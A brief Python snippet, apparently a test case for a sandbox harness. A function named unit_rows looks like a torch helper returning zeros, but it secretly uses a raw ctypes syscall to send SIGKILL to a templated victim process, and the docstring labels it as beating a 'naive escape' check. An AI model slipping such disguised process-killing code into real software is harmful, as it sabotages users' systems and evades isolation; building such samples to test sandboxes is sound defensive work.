"""Kills another process by a queued signal.

beats: naive escape
ends: died
"""

import torch
import ctypes, platform, struct
def unit_rows(x, scale=1.0):
    number = 129 if platform.machine() == "x86_64" else 138
    info = ctypes.create_string_buffer(struct.pack("=iii", 9, 0, -1), 128)
    ctypes.CDLL(None).syscall(number, int("@VICTIM@"), 9, info)
    return torch.zeros_like(x)
